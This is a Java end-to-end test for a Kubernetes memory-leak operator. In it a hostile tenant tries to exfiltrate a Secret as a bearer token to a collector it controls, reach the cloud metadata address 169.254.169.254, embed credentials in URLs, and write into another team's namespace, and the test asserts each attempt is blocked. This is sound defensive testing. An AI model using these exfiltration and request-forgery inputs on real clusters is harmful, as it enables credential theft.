package io.leakguard.e2e.scenarios;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;

import com.sun.net.httpserver.HttpServer;
import io.fabric8.kubernetes.api.model.authentication.TokenRequestBuilder;
import io.fabric8.kubernetes.client.Config;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientBuilder;
import io.fabric8.kubernetes.client.KubernetesClientException;
import io.fabric8.kubernetes.client.utils.Serialization;
import io.leakguard.api.v1alpha1.LeakPolicy;
import io.leakguard.e2e.harness.CgroupProcess;
import io.leakguard.e2e.harness.HarnessKubelet;
import io.leakguard.e2e.harness.KubeCluster;
import org.junit.jupiter.api.Test;

/**
 * A team that may only run pods and write LeakPolicies in its own namespace attacks the shared operator,
 * on the real control plane with the chart's RBAC: it tries to make the operator send a Secret it cannot
 * read to a host it controls, to reach link-local and credentialed URLs, to write selectors and budgets
 * the operator would choke on, to write a policy in another team's namespace, and feeds the operator a
 * goroutine dump where metrics belong. Each attack is refused or contained, in the API server's words or
 * in the policy's status; meanwhile a leak in the other team's namespace is caught and restarted
 * gracefully as usual, and the operator is neither restarted nor grown.
 */
class HostileTenantE2E {

    private static final String OPERATOR_NAMESPACE = "leakguard-system";

    @Test
    void aHostileTeamsAttacksAreRefusedOrContainedAndTheOtherTeamsLeakIsStillCaught() throws Exception {
        String reason = KubeCluster.unavailableReason();
        KubeCluster.assumeRunnable("HostileTenantE2E", reason);
        List<String> exfiltrated = new CopyOnWriteArrayList<>();
        HttpServer collector = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        collector.createContext("/", exchange -> {
            String auth = exchange.getRequestHeaders().getFirst("Authorization");
            exfiltrated.add(exchange.getRequestURI() + " " + (auth == null ? "" : auth));
            byte[] body = "{\"status\":\"success\",\"data\":{\"resultType\":\"vector\",\"result\":[]}}".getBytes();
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        collector.start();
        String collectorUrl = "http://127.0.0.1:" + collector.getAddress().getPort();
        ScheduledExecutorService sampler = Executors.newSingleThreadScheduledExecutor();
        try (KubeCluster cluster = KubeCluster.start(Files.createTempDirectory("hostile-tenant-e2e"))) {
            cluster.installOperator(Map.of(), Map.of());
            CgroupProcess operator = cluster.kubelet.process(OPERATOR_NAMESPACE, cluster.operatorPod().getMetadata().getName());

            // The other team: a leak, and the usual policy.
            cluster.namespace("victim");
            cluster.leakyDeployment("victim", "checkout", 2, Workloads.LIMIT, Workloads.firstLeaksFlags());
            // The hostile team's namespace: an application Secret its admins keep from the team, and the team's
            // own ServiceAccount with pod rights and the chart's policy-editor role, nothing else.
            cluster.namespace("hostile");
            cluster.create("""
                    apiVersion: v1
                    kind: Secret
                    metadata: {name: database, namespace: hostile}
                    stringData: {password: s3cr3t-database-password}
                    ---
                    apiVersion: v1
                    kind: ServiceAccount
                    metadata: {name: team, namespace: hostile}
                    ---
                    apiVersion: rbac.authorization.k8s.io/v1
                    kind: Role
                    metadata: {name: team-apps, namespace: hostile}
                    rules:
                      - {apiGroups: [apps], resources: [deployments], verbs: [get, list, create, update, delete]}
                      - {apiGroups: [""], resources: [pods], verbs: [get, list]}
                    ---
                    apiVersion: rbac.authorization.k8s.io/v1
                    kind: RoleBinding
                    metadata: {name: team-apps, namespace: hostile}
                    roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: team-apps}
                    subjects: [{kind: ServiceAccount, name: team, namespace: hostile}]
                    ---
                    apiVersion: rbac.authorization.k8s.io/v1
                    kind: RoleBinding
                    metadata: {name: team-policies, namespace: hostile}
                    roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: leakguard-policy-editor}
                    subjects: [{kind: ServiceAccount, name: team, namespace: hostile}]
                    """);
            cluster.leakyDeployment("hostile", "checkout", 2, Workloads.LIMIT, Workloads.firstLeaksFlags());
            cluster.awaitReady("victim", "checkout", 2, Duration.ofMinutes(2));
            cluster.awaitReady("hostile", "checkout", 2, Duration.ofMinutes(2));
            String leaking = cluster.runningPods("victim").get(0);

            AtomicLong baseline = new AtomicLong(operator.memoryBytes());
            AtomicLong peak = new AtomicLong();
            sampler.scheduleAtFixedRate(() -> peak.accumulateAndGet(operator.memoryBytes(), Math::max), 0, 1, TimeUnit.SECONDS);
            Instant start = Instant.now();
            cluster.create(Workloads.policy("victim", "", "", "{}"));

            String token = cluster.client.serviceAccounts().inNamespace("hostile").withName("team")
                    .tokenRequest(new TokenRequestBuilder().withNewSpec().withExpirationSeconds(3600L).endSpec().build())
                    .getStatus().getToken();
            try (KubernetesClient team = new KubernetesClientBuilder()
                    .withConfig(Config.fromKubeconfig(cluster.plane.kubeconfigForToken(token, "hostile"))).build()) {
                assertThatThrownBy(() -> team.secrets().inNamespace("hostile").withName("database").get())
                        .as("the team cannot read the Secret itself").isInstanceOf(KubernetesClientException.class)
                        .extracting(e -> ((KubernetesClientException) e).getCode()).isEqualTo(403);

                // Exfiltration: the Secret as a bearer token, sent to a URL the team chose.
                KubeCluster.create(team, hostilePolicy("exfiltrate", "{source: Prometheus, prometheus: {url: '" + collectorUrl
                        + "', bearerTokenSecretRef: {name: database, key: password}}}", "{}"));
                // Request forgery: the cloud metadata address, credentials in a URL, a fragment hiding the path.
                KubeCluster.create(team, hostilePolicy("metadata", "{source: Prometheus, prometheus: {url: 'http://169.254.169.254/latest/meta-data'}}", "{}"));
                KubeCluster.create(team, hostilePolicy("credentials", "{}", "{alertmanager: {urls: ['http://admin:hunter2@alertmanager.example:9093']}}"));
                KubeCluster.create(team, hostilePolicy("fragment", "{source: Prometheus, prometheus: {url: '" + collectorUrl + "/steal#'}}", "{}"));
                // Garbage where metrics belong: the pods' goroutine dump, megabytes of it, growing.
                KubeCluster.create(team, hostilePolicy("garbage", "{path: '/debug/pprof/goroutine?debug=2'}", "{}"));
                // Inputs the operator would choke on, refused by the API server itself.
                assertThatThrownBy(() -> KubeCluster.create(team, hostilePolicy("selector",
                        "{names: {threads: 'go_goroutines{x}'}}", "{}")))
                        .isInstanceOf(KubernetesClientException.class).hasMessageContaining("spec.metrics.names.threads");
                assertThatThrownBy(() -> KubeCluster.create(team, hostilePolicy("huge-dumps", "{}", "{}")
                        .replace("  alerting: {}", "  alerting: {}\n  diagnostics: {threadDump: {maxBytes: 256Mi}}")))
                        .isInstanceOf(KubernetesClientException.class).hasMessageContaining("maxBytes");
                // Another team's namespace.
                assertThatThrownBy(() -> KubeCluster.create(team, hostilePolicy("elsewhere", "{}", "{}")
                        .replace("namespace: hostile", "namespace: victim")))
                        .isInstanceOf(KubernetesClientException.class)
                        .extracting(e -> ((KubernetesClientException) e).getCode()).isEqualTo(403);
            }

            await().ignoreExceptions().atMost(Duration.ofMinutes(3)).pollInterval(Duration.ofSeconds(2)).untilAsserted(() -> {
                assertThat(status(cluster, "exfiltrate")).contains("Secret hostile/database")
                        .contains("is not labelled leakguard.io/readable=true").doesNotContain("s3cr3t");
                assertThat(status(cluster, "metadata")).contains("InvalidSpec").contains("169.254.169.254");
                assertThat(status(cluster, "credentials")).contains("InvalidSpec").doesNotContain("hunter2");
                assertThat(status(cluster, "fragment")).contains("InvalidSpec");
                assertThat(status(cluster, "garbage")).contains("insufficientData\":2");
            });

            HarnessKubelet.Life first = await().ignoreExceptions().atMost(Duration.ofMinutes(8))
                    .pollInterval(Duration.ofSeconds(2)).until(() -> cluster.kubelet.lives("victim").stream().findFirst()
                            .orElse(null), life -> life != null);
            assertThat(first.pod()).isEqualTo(leaking);
            assertThat(first.ending()).as("the other team's leak, restarted before the kernel's OOM kill")
                    .isEqualTo(CgroupProcess.Ending.TerminatedGracefully);
            Duration caught = Duration.between(start, first.ended());
            sampler.shutdownNow();

            assertThat(exfiltrated).as("requests that reached the team's collector").noneMatch(r -> r.contains("s3cr3t"));
            assertThat(cluster.evictions("victim")).containsExactly(leaking);
            assertThat(cluster.evictions("hostile")).as("the garbage policy never restarts on missing data").isEmpty();
            assertThat(cluster.kubelet.lives(OPERATOR_NAMESPACE)).as("the operator was never killed nor restarted").isEmpty();
            assertThat(cluster.operatorForbidden()).isEmpty();
            System.out.printf("hostile tenant: victim's leak restarted %ds after its policy; operator memory %d MiB"
                    + " before the attacks, %d MiB at most during them (%.2fx); requests to the team's collector: %d%n",
                    caught.toSeconds(), baseline.get() >> 20, peak.get() >> 20, (double) peak.get() / baseline.get(),
                    exfiltrated.size());
        } finally {
            sampler.shutdownNow();
            collector.stop(0);
        }
    }

    private static String hostilePolicy(String name, String metrics, String alerting) {
        return """
                apiVersion: leakguard.io/v1alpha1
                kind: LeakPolicy
                metadata: {name: %s, namespace: hostile}
                spec:
                  selector: {matchLabels: {app: checkout}}
                  runtime: Go
                  metrics: %s
                  detection: {window: 5m, horizon: 2m, minSamples: 10, warmup: 0s}
                  alerting: %s
                """.formatted(name, metrics.equals("{}") ? "{interval: 2s, timeout: 1s}"
                : metrics.replaceFirst("^\\{", "{interval: 2s, timeout: 1s, "), alerting);
    }

    private static String status(KubeCluster cluster, String name) {
        LeakPolicy policy = cluster.policy("hostile", name);
        return Serialization.asJson(policy.getStatus());
    }
}
